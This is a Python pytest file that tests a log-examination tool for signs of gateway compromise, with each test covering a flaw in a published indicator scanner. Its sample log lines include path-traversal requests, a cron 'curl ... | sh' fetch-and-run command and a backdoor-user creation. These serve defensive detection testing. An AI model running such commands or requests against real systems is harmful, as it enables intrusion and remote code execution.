# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The defects of the published scanners that concern logs, each with its own sample (fact sheets crisis 7, mitigations 1.9 and 2.7)."""

from __future__ import annotations

import pytest

from tests.unit.plugin_utils.traces.log_reading.stage import access, command, examine, lines, session, shell, traces

CRON = "Nov 28 04:30:00 <cron.info> gw /usr/sbin/cron[14451]: (root) CMD ({})"


def levels(files: dict[str, list[str]]) -> list[str]:
    return [level for level, _what in traces(examine({name: lines(*texts) for name, texts in files.items()}))]


@pytest.mark.parametrize("name", ["12345678", "mWK6N4fOqFFgZ7puKwxaAVDV4Kk5zmg8s", "sssss"])
@pytest.mark.parametrize(("status", "level"), [(200, "compromise"), (304, "compromise"), (404, "attempt")])
def test_feye_a_class_of_posix_that_is_none(name: str, status: int, level: str) -> None:
    r"""As shipped, ``[^\s]`` means neither backslash nor the letter s to grep -E: one of the two lines of its own test file was found."""
    assert level in levels({"httpaccess.log": [access(f"/vpn/../vpns/portal/{name}.xml", status)]})


def test_feye_scripts_whose_path_has_an_s() -> None:
    assert "compromise" in levels({"httpaccess.log": [access("/vpn/../vpns/portal/scripts/newbm.pl", 304)]})


@pytest.mark.parametrize("version", ["1.0", "1.1", "2.0"])
def test_feye_request_lines_of_other_versions(version: str) -> None:
    assert levels({"httpaccess.log": [access("/vpn/js/%2e./.%2e/%76pns/cfg/smb.conf", 403, version=version)]}) == [
        "attempt"
    ]


def test_feye_an_hour_of_24_in_its_own_sample() -> None:
    found = examine({"bash.log": lines(shell("uname -a", "nobody").replace("04:30:00", "24:30:00"))})
    (one,) = found.examination.findings
    assert (one.level, one.time is not None) == ("compromise", True)


@pytest.mark.parametrize("tool", ["grep -r", "/usr/bin/zgrep -E", "compgen -G", "find / -name"])
def test_feye_scanners_that_find_themselves(tool: str) -> None:
    """Issues 10, 12 and 24: its own patterns in bash.log and notice.log were evidence of compromise."""
    assert set(levels({"bash.log": [shell(f'{tool} "/wp-content/uploads/" /var/log')]})) == {"review"}


def test_feye_a_search_that_does_more_is_judged_as_what_it_is() -> None:
    assert "compromise" in levels(
        {"bash.log": [shell("grep x; curl http://x/wp-content/uploads/ > /tmp/x", terminal="(null)")]}
    )


def test_fox_a_job_whose_address_is_not_at_its_very_beginning() -> None:
    """re.match on the command finds an address, a path or a user at the beginning only."""
    assert levels({"cron": [CRON.format("curl http://192.0.2.66/x | sh")]}) == ["review"]
    assert levels({"cron": [CRON.format("cd /; sh ci3.sh")]}) == ["compromise"]
    assert levels({"cron": [CRON.format("   nsfsyncd -p")]}) == []


def test_m3519_a_command_at_the_end_of_a_line() -> None:
    """``whoami$`` was searched as a fixed text, in which the dollar sign is a letter."""
    assert levels({"bash.log": [shell("whoami")]}) == levels({"bash.log": [shell("su x -c whoami")]}) != []


def test_m3519_quotes_inside_a_command() -> None:
    assert levels({"bash.log": [shell('python -c "import x; tee /netscaler/portal/y"', terminal="(null)")]}) == [
        "compromise"
    ]


def test_certat_a_line_without_a_host_name() -> None:
    """Its expression needs one, so ``GMT  0-PPE-6`` was not read."""
    used = session("LOGIN", "17", "203.0.113.5"), session("TCPCONNSTAT", "17", "203.0.113.5", "198.51.100.9")
    assert levels({"ns.log": [line.replace(" GMT gw ", " GMT  ") for line in used]}) == ["review"]


def test_ncsc_a_command_whose_words_are_reversed_or_quoted_is_no_pattern_of_grep() -> None:
    """grep -Po needs a grep that the appliance may not have, and was silent: here a change is found without it."""
    assert levels({"ns.log": [command("add system user support1 y", source="127.0.0.1")]}) == ["compromise"]


def test_mart_messages_of_the_kernel_that_are_run_together() -> None:
    one = "MAC/veriexec: no fingerprint (file=/var/tmp/{} fsid=1 fileid=2 ppid=1 gppid=1)"
    line = f"Nov 28 04:00:00 <kern.crit> gw kernel: {one.format('a')}{one.format('b')}"
    assert [what for _level, what in traces(examine({"messages": lines(line)}))] == [
        "executable without a valid signature was run: /var/tmp/a",
        "executable without a valid signature was run: /var/tmp/b",
    ]


def test_all_no_finding_says_how_far_back_the_logs_reach() -> None:
    found = examine({})
    assert traces(found) == []
    assert [str(one) for one in found.examination.reach] == ["192.0.2.11 ns.log: 2026-11-28 04:00:00+00:00"]
